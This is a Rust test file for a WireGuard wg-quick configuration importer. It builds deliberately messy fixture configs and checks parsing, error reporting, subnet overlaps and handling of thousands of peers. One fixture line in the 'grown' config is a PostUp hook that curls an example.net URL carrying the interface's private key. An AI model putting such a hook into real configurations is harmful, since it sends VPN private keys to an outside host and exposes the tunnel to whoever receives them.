//! wg-quick's files, with the habits of many people in one.

use std::path::Path;

use relay_user::{
    import::{Found, Place, wg_quick},
    key::{PresharedKey, PrivateKey, PublicKey},
};

use crate::{loaded, mapped, mapped_on, promise, told};

fn key(number: u8) -> PublicKey {
    PrivateKey::new([number; 32]).public_key()
}

fn parse(text: &str) -> Found {
    wg_quick::parse(Path::new("wg0.conf"), text, "wg0")
}

/// An `[Interface]`, then `rest`.
fn hub_and(rest: &str) -> String {
    let private = PrivateKey::new([1; 32]).expose_base64();
    format!(
        "[Interface]\nAddress = 10.8.0.1/24\nListenPort = 51820\nPrivateKey = {}\n\n{rest}",
        private.as_str()
    )
}

/// Grown over years: every key twice, every kind of comment, what others left behind.
fn grown() -> String {
    let hub = PrivateKey::new([1; 32]).expose_base64();
    let preshared = PresharedKey::new([99; 32]).expose_base64();
    let keys: Vec<String> = (2..=12).map(|number| key(number).to_string()).collect();
    format!(
        "\u{feff}[interface]\r
address=10.8.0.1/24, fd08::1/64 # ours\r
Address = 10.8.0.9/24\r
LISTENPORT = 443\r
PrivateKey = {hub}\r
DNS = 1.1.1.1\r
MTU = 1380\r
Table = 1234\r
FwMark = 0xca6c\r
SaveConfig = true\r
PreUp = \r
PostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE\r
PostUp = curl https://example.net/up?key={hub}\r
PostDown = iptables -D FORWARD -i %i -j ACCEPT\r
Bogus = 1\r
what is this\r
\r
# Client: home (2493515b-2278-4d05-8b52-43dabacdef2d)\r
[Peer]\r
PublicKey = {k0}\r
PresharedKey = {preshared}\r
AllowedIPs = 10.8.0.2/32\r
AllowedIPs = fd08::2/128, 192.168.40.0/24\r
PersistentKeepalive = 25\r
\r
[PEER] # phone\r
publickey = {k1} # new key\r
allowedips = 10.8.0.3/24\r
\r
# the office\r
[Peer]\r
# friendly_name = Office (Berlin)\r
PublicKey = {k2}\r
AllowedIPs = 10.8.0.4, 192.168.50.7/24\r
Endpoint = office.example.net:51820\r
\r
# the office\r
[Peer]\r
PublicKey = {k3}\r
AllowedIPs = 10.8.0.5/32\r
Endpoint = 198.51.100.9:51820\r
\r
[Peer]\r
# the office\r
PublicKey = {k4}\r
AllowedIPs = 10.8.0.6/32, 0.0.0.0/0\r
\r
### Client lan only\r
[Peer]\r
PublicKey = {k5}\r
AllowedIPs = 192.168.60.0/24, 192.168.60.128/25\r
\r
[Peer]\r
PublicKey = {k6}\r
AllowedIPs = 10.8.0.2/32, 192.168.40.128/25\r
\r
[Peer]\r
PublicKey = {k7}\r
AllowedIPs = 10.8.0.0/24\r
\r
[Peer]\r
PublicKey = {k8}\r
AllowedIPs = 10.8.0.1/32, 10.8.0.10/32, 203.0.113.0/25, 127.0.0.0/8\r
\r
# no key\r
[Peer]\r
AllowedIPs = 10.8.0.11/32\r
PublicKey = tooshort\r
\r
[Peer]\r
PublicKey = {k9}\r
AllowedIPs = 10.8.0.12/32, nonsense, +10.8.0.13/32\r
[Peer]\r
PublicKey = {k9}\r
AllowedIPs = 10.8.0.14/32, 10.8.0.15/32, -10.8.0.15/32\r
\r
#[Peer]\r
#PublicKey = {k10}\r
#AllowedIPs = 10.8.0.16/32\r
[WireGuardPeer]\r
PublicKey = {k10}\r
",
        hub = hub.as_str(),
        preshared = preshared.as_str(),
        k0 = keys[0],
        k1 = keys[1],
        k2 = keys[2],
        k3 = keys[3],
        k4 = keys[4],
        k5 = keys[5],
        k6 = keys[6],
        k7 = keys[7],
        k8 = keys[8],
        k9 = keys[9],
        k10 = keys[10],
    )
}

#[test]
fn a_file_grown_over_years() {
    let import = mapped(&parse(&grown()));
    promise("a_file_grown_over_years", &told(&import, Path::new("/nowhere")));
    loaded(&import);
}

#[test]
fn places_are_lines_and_columns() {
    let found = parse("[Interface]\nAddress = 10.8.0.1/24, ä\n  MTU = many\n");
    let places: Vec<&Place> = found.notes.iter().map(|note| &note.place).collect();
    let file = Path::new("wg0.conf");
    assert_eq!(places, [&Place::line(file, 2, 11), &Place::line(file, 3, 9)]);
    assert_eq!(found.obstacles[0].place, Place::line(file, 1, 1), "{:?}", found.obstacles);
}

#[test]
fn what_cannot_be_a_hub_is_refused() {
    let private = PrivateKey::new([1; 32]).expose_base64();
    let private = private.as_str();
    for (text, expected) in [
        ("", "there is no [Interface]"),
        ("[Peer]\nPublicKey = x\n", "there is no [Interface]"),
        ("[Interface]\nAddress = 10.8.0.1/24\n", "PrivateKey is missing; clients"),
        (
            "[Interface]\nAddress = 10.8.0.1/24\nPostUp = wg set %i private-key /etc/key\n",
            "PrivateKey is missing (a hook sets it from elsewhere)",
        ),
        ("[Interface]\nPrivateKey = short\n", "PrivateKey: not a WireGuard key"),
        (&format!("[Interface]\nPrivateKey = {private}\n"), "the hub has no address"),
        (
            &format!("[Interface]\nPrivateKey = {private}\nAddress = 10.8.0.2/24\n[Peer]\nEndpoint = a:1\n"),
            "the configuration of a client",
        ),
        (
            &format!("[Interface]\nPrivateKey = {private}\nJc = 4\nS1 = 15\n"),
            "Jc is a parameter of AmneziaWG",
        ),
        (
            &format!("[Interface]\nPrivateKey = {private}\nListenPort = 70000\n"),
            "ListenPort `70000` is no port",
        ),
    ] {
        let import = mapped(&parse(text));
        assert!(import.files.is_none(), "{text}");
        let obstacles: Vec<&str> = import.report.obstacles.iter().map(|note| note.message.as_str()).collect();
        assert!(obstacles.iter().any(|message| message.contains(expected)), "{text}: {obstacles:?}");
    }
}

#[test]
fn a_host_in_the_tunnels_subnet_stops_the_import() {
    let found = parse(&hub_and(""));
    let import = mapped_on(&found, &[("docker0", "10.8.0.0/16")]);
    assert!(import.files.is_none());
    let message = &import.report.obstacles[0].message;
    assert!(message.contains("overlaps 10.8.0.0/16 of docker0 on this host"), "{message}");
}

#[test]
fn a_bare_address_of_the_hub_becomes_a_subnet() {
    let text = hub_and(&format!("[Peer]\nPublicKey = {}\nAllowedIPs = 10.8.0.2/32\n", key(2)));
    let import = mapped(&parse(&text.replace("10.8.0.1/24", "10.8.0.1/32")));
    let config = loaded(&import);
    let addresses: Vec<String> = config.desired.addresses.iter().map(ToString::to_string).collect();
    assert_eq!(addresses, ["10.8.0.1/24"]);
    assert_eq!(config.desired.peers[&key(2)].addresses.len(), 1);
}

#[test]
fn full_tunnel_follows_the_hubs_masquerade() {
    let peer = format!("[Peer]\nPublicKey = {}\nAllowedIPs = 10.8.0.2/32\n", key(2));
    let plain = hub_and(&peer);
    let masquerades = plain
        .replace("PrivateKey", "PostUp = nft add rule ip nat postrouting oif eth0 masquerade\nPrivateKey");
    for (text, expected) in [(plain, false), (masquerades, true)] {
        assert_eq!(loaded(&mapped(&parse(&text))).desired.peers[&key(2)].full_tunnel, expected);
    }
}

/// The kernel gives an address to the last peer that names it, and takes it from the others without a word.
#[test]
fn two_peers_with_one_prefix_are_named() {
    let peer = |name: &str, number, allowed: &str| {
        format!("# {name}\n[Peer]\nPublicKey = {}\nAllowedIPs = {allowed}\n\n", key(number))
    };
    let text = hub_and(
        &[
            peer("a", 2, "10.8.0.2/32, 192.168.40.0/24"),
            peer("b", 3, "10.8.0.3/32, 192.168.40.0/24, 192.168.0.0/16"),
            peer("c", 4, "10.8.0.2/32"),
        ]
        .concat(),
    );
    let import = mapped(&parse(&text));
    let left_out: Vec<String> =
        import.report.left_out.iter().map(|each| format!("{}: {}", each.what, each.why)).collect();
    assert_eq!(
        left_out,
        [
            "10.8.0.2/32 of peer \"a\": peer \"c\" has it too, and WireGuard gives it to the last",
            "192.168.40.0/24 of peer \"a\": peer \"b\" has it too, and WireGuard gives it to the last",
            "peer \"a\": no address is left to it, so nothing could reach it",
        ],
        "192.168.40.0/24 is part of b's own 192.168.0.0/16: {:?}",
        import.report.notes
    );
    loaded(&import);
}

/// As many as a /16 takes, all of one name, each with a LAN.
#[test]
fn thousands_of_peers() {
    const COUNT: u32 = 3000;
    let peer = |number: u32| {
        let mut bytes = [7; 32];
        bytes[..4].copy_from_slice(&number.to_le_bytes());
        let address = std::net::Ipv4Addr::from(0x0a08_0002 + number);
        let lan = std::net::Ipv4Addr::from(0xac14_0000 + number * 16);
        let key = PublicKey::new(bytes);
        format!("# phone\n[Peer]\nPublicKey = {key}\nAllowedIPs = {address}/32, {lan}/28\n\n")
    };
    let text = hub_and(&(0..COUNT).map(peer).collect::<String>()).replace("10.8.0.1/24", "10.8.0.1/16");
    let config = loaded(&mapped_on(&parse(&text), &[]));
    assert_eq!(config.desired.peers.len(), COUNT as usize);
    let (_, last, _) = config.peer(&format!("phone ({COUNT})")).expect("the last of that name");
    assert_eq!(last.lans.len(), 1);
}
